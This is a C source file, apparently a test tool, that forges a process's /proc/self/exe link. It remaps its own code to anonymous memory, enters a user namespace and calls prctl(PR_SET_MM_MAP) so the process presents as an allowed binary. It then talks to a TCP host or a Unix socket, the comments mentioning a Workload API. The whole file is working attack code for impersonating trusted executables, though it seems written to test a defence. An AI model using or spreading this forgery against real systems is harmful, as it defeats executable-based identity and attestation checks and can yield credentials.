// An exe-link forgery, written the way an unprivileged attacker would: it
// moves its own code to anonymous memory (the kernel refuses to re-point
// the exe link while the old executable is still mapped), enters a new
// user namespace (where it holds CAP_CHECKPOINT_RESTORE), and re-points
// /proc/self/exe at an allowed binary with prctl(PR_SET_MM, PR_SET_MM_MAP).
// /proc/PID/exe, its path and its hash then name that binary while this
// code keeps running. It then uses the network or the Workload API.
//
// EXE "-" skips the forgery (the same program as its own control).
//
// usage: forge_exe EXE tcp HOST PORT TEXT   send TEXT (\n -> CRLF) to HOST:PORT,
//                                           print what comes back (or the error)
//        forge_exe EXE unix PATH FILE       send FILE's bytes to a Unix socket,
//                                           write the reply to stdout as is
//        forge_exe EXE wait                 print "FORGED <pid>", wait for stdin to close
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

static int fail(const char *what)
{
	printf("FAIL %s: %s\n", what, strerror(errno));
	fflush(stdout);
	return 1;
}

/* Replaces every mapping of our own executable with an anonymous copy at
 * the same address: the code keeps running, no longer backed by the file. */
static int unmap_self(void)
{
	char self[4096] = {0};
	static char maps[1 << 16];
	ssize_t n;
	int fd;

	if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
		return fail("readlink");
	fd = open("/proc/self/maps", O_RDONLY);
	if (fd < 0)
		return fail("open maps");
	n = read(fd, maps, sizeof(maps) - 1);
	close(fd);
	if (n <= 0)
		return fail("read maps");
	maps[n] = 0;
	for (char *line = strtok(maps, "\n"); line; line = strtok(NULL, "\n")) {
		unsigned long start, end;
		char perms[5];
		int path_at = 0;

		if (sscanf(line, "%lx-%lx %4s %*s %*s %*s %n", &start, &end, perms, &path_at) < 3)
			continue;
		if (!path_at || strcmp(line + path_at, self) != 0)
			continue;
		size_t len = end - start;
		int prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) |
			   (perms[2] == 'x' ? PROT_EXEC : 0);
		if (!(prot & PROT_READ)) {
			munmap((void *)start, len);
			continue;
		}
		void *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (copy == MAP_FAILED)
			return fail("mmap");
		memcpy(copy, (void *)start, len);
		if (mprotect(copy, len, prot))
			return fail("mprotect");
		if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)start) == MAP_FAILED)
			return fail("mremap");
	}
	return 0;
}

static int forge(const char *exe)
{
	char buf[4096];
	unsigned long f[64] = {0};
	int fd, i = 3;
	ssize_t n;

	if (unmap_self())
		return 1;
	if (unshare(CLONE_NEWUSER))
		return fail("unshare(CLONE_NEWUSER)");
	fd = open("/proc/self/stat", O_RDONLY);
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return fail("read stat");
	buf[n] = 0;
	for (char *t = strtok(strrchr(buf, ')') + 2, " "); t && i < 64; t = strtok(NULL, " "), i++)
		f[i] = strtoul(t, NULL, 10);
	struct prctl_mm_map m = {
		.start_code = f[26], .end_code = f[27], .start_stack = f[28],
		.start_data = f[45], .end_data = f[46], .start_brk = f[47],
		.brk = (unsigned long)sbrk(0),
		.arg_start = f[48], .arg_end = f[49], .env_start = f[50], .env_end = f[51],
	};
	m.exe_fd = open(exe, O_RDONLY);
	if ((int)m.exe_fd < 0)
		return fail("open exe");
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &m, sizeof(m), 0))
		return fail("prctl(PR_SET_MM_MAP)");
	close(m.exe_fd);
	return 0;
}

static void relay(int s, const char *data, size_t len)
{
	char reply[1 << 16];
	struct timeval tv = {.tv_sec = 3};
	ssize_t n;

	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (write(s, data, len) != (ssize_t)len) {
		fail("write");
		return;
	}
	while ((n = read(s, reply, sizeof(reply))) > 0)
		fwrite(reply, 1, n, stdout);
	if (n < 0 && errno != EAGAIN)
		fail("read");
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	if (strcmp(argv[1], "-") != 0 && forge(argv[1]))
		return 1;
	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(argv[2], "wait")) {
		char c;
		printf("FORGED %d\n", getpid());
		while (read(0, &c, 1) > 0)
			;
		return 0;
	}
	if (!strcmp(argv[2], "tcp") && argc == 6) {
		char text[4096];
		size_t len = 0;
		for (const char *p = argv[5]; *p && len < sizeof(text) - 2; p++) {
			if (*p == '\n')
				text[len++] = '\r';
			text[len++] = *p;
		}
		struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(argv[4]))};
		struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[4]))};
		int v6 = inet_pton(AF_INET6, argv[3], &a6.sin6_addr) == 1;
		if (!v6 && inet_pton(AF_INET, argv[3], &a4.sin_addr) != 1)
			return fail("address");
		int s = socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
		if (connect(s, v6 ? (void *)&a6 : (void *)&a4, v6 ? sizeof(a6) : sizeof(a4)))
			return fail("connect");
		relay(s, text, len);
		return 0;
	}
	if (!strcmp(argv[2], "unix") && argc == 5) {
		static char req[1 << 16];
		int fd = open(argv[4], O_RDONLY);
		ssize_t len = fd < 0 ? -1 : read(fd, req, sizeof(req));
		if (len < 0)
			return fail("request file");
		struct sockaddr_un a = {.sun_family = AF_UNIX};
		strncpy(a.sun_path, argv[3], sizeof(a.sun_path) - 1);
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		if (connect(s, (void *)&a, sizeof(a)))
			return fail("connect");
		relay(s, req, len);
		return 0;
	}
	return 2;
}
